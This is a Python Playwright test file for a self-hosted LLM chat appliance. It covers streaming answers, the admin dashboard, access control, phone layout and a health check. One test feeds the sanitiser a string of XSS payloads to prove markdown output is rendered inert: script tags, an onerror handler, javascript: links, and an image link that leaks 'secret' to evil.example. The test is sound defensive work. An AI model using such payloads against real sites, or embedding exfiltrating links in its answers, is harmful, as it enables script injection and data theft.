"""The pages in a real browser (Debian's chromium) against a live appliance."""

import json
import re

import pytest
from playwright.sync_api import expect

from tests.dashboard.browser.conftest import ADMIN_PASSWORD, log_in

pytestmark = [pytest.mark.browser, pytest.mark.model]

ANSWER_TIMEOUT_MS = 120_000

HOSTILE_MARKDOWN = (
    "# Results\n\nSome **bold** text and `code`.\n\n"
    "<script>window.__pwned = 'script'</script>\n\n"
    '<img src="x" onerror="window.__pwned = \'img\'">\n\n'
    "[click](javascript:window.__pwned='link')\n\n"
    '<a href="https://example.com" onclick="window.__pwned=\'onclick\'">a link</a>\n\n'
    '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>\n\n'
    '<svg><script>window.__pwned = "svg"</script></svg>\n\n'
    "![tracker](https://evil.example/leak?q=secret)\n"
)


def test_a_chat_streams_its_answer_with_figures_and_the_dashboard_moves(
    browser, live_appliance, artifacts
):
    page = browser.new_page(viewport={"width": 1280, "height": 860})
    errors = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    log_in(page, live_appliance, "admin", ADMIN_PASSWORD)

    page.fill("#prompt", "Explain in a few sentences what a home lab is.")
    page.click("#send")
    answer = page.locator(".msg-assistant .msg-body").last
    expect(page.locator("#stop")).to_be_visible(timeout=30_000)

    # Watch the answer grow while it streams, token by token.
    lengths = []
    for _ in range(400):
        lengths.append(len(answer.inner_text()))
        if page.locator(".msg-assistant .figures").count():
            break
        page.wait_for_timeout(50)
    growth = sorted(set(n for n in lengths if n > 0))
    assert len(growth) >= 3, f"the answer did not arrive in pieces: {lengths}"

    figures = page.locator(".msg-assistant .figures").last
    expect(figures).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    text = figures.inner_text()
    for label in ("TTFT", "prompt", "decode", "tokens"):
        assert label in text
    assert re.search(r"\d+(\.\d+)? tok/s", text)
    expect(page.locator("#send")).to_be_visible()
    assert re.search(r"/c/\d+/$", page.url)
    expect(page.locator("#conversation-list a[aria-current=page]")).to_have_count(1)
    page.screenshot(path=str(artifacts / "chat.png"), full_page=True)

    # The dashboard: the panels are live and show the chat's throughput.
    page.goto(live_appliance.url + "/dashboard/")
    expect(page.locator("#live-state")).to_have_text("live", timeout=10_000)
    expect(page.locator("#t-prompt-tps")).not_to_have_text("–", timeout=10_000)
    expect(page.locator("#requests tr")).not_to_have_count(0)
    expect(page.locator("#timeline .seg").first).to_be_visible()
    before = page.locator("#t-output-tps").inner_text()

    # Another chat while the dashboard watches: the generation figure moves.
    chat = browser.new_page()
    log_in(chat, live_appliance, "admin", ADMIN_PASSWORD)
    chat.fill("#prompt", "Name three uses for a Raspberry Pi.")
    chat.click("#send")
    expect(page.locator("#t-output-tps")).not_to_have_text(before, timeout=ANSWER_TIMEOUT_MS)
    expect(chat.locator(".msg-assistant .figures").last).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    page.wait_for_timeout(1500)  # a few more points on the charts for the screenshot
    page.screenshot(path=str(artifacts / "dashboard.png"), full_page=True)
    chat.close()
    page.close()
    assert errors == []


def test_model_output_with_html_or_script_is_rendered_inert(browser, live_appliance, artifacts):
    conversation_id = live_appliance.shell(
        "from django.contrib.auth.models import User;"
        "from dashboard.models import Conversation, Message;"
        "c = Conversation.objects.create(user=User.objects.get(username='alice'), title='xss');"
        "Message.objects.create(conversation=c, role='user', content='<b>hi</b>');"
        f"Message.objects.create(conversation=c, role='assistant', content={HOSTILE_MARKDOWN!r});"
        "print('conversation', c.pk)"
    )
    conversation_id = re.search(r"conversation (\d+)", conversation_id).group(1)
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    log_in(page, live_appliance, "alice", "pw-alice-123")
    page.goto(f"{live_appliance.url}/c/{conversation_id}/")
    body = page.locator(".msg-assistant .msg-body").last
    expect(body.locator("h1")).to_have_text("Results")  # markdown is rendered...
    expect(body.locator("strong")).to_have_text("bold")
    # ...but nothing active survives.
    for selector in ("script", "img", "iframe", "svg", "[onerror]", "[onclick]"):
        assert body.locator(selector).count() == 0, selector
    hrefs = body.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert all(h is None or h.startswith("https://") for h in hrefs), hrefs
    # The user's own message is text, not markup.
    expect(page.locator(".msg-user .msg-body").last).to_have_text("<b>hi</b>")
    # The same sanitiser handles streamed tokens: feed it the hostile text directly.
    html = page.evaluate("text => Markdown.toSafeHtml(text)", HOSTILE_MARKDOWN)
    assert "<script" not in html and "onerror" not in html and "javascript:" not in html
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
    page.screenshot(path=str(artifacts / "chat-hostile-markdown.png"), full_page=True)
    page.close()


def test_a_member_is_refused_the_dashboard_in_the_browser(browser, live_appliance):
    page = browser.new_page()
    log_in(page, live_appliance, "alice", "pw-alice-123")
    response = page.goto(live_appliance.url + "/dashboard/")
    assert response.status == 403
    assert page.locator("nav a", has_text="Dashboard").count() == 0
    page.close()


def test_the_chat_page_fits_a_phone(browser, live_appliance, artifacts):
    page = browser.new_page(viewport={"width": 390, "height": 844}, is_mobile=True)
    log_in(page, live_appliance, "alice", "pw-alice-123")
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390 + 1, "the page scrolls sideways on a phone"
    expect(page.locator("#prompt")).to_be_visible()
    page.screenshot(path=str(artifacts / "chat-phone.png"), full_page=True)
    page.close()


def test_the_healthz_endpoint_answers_without_a_login(live_appliance):
    import httpx

    body = httpx.get(live_appliance.url + "/healthz").json()
    assert json.dumps(body)
    assert body["mode"] == "embedded" and body["worker"] == "ok"
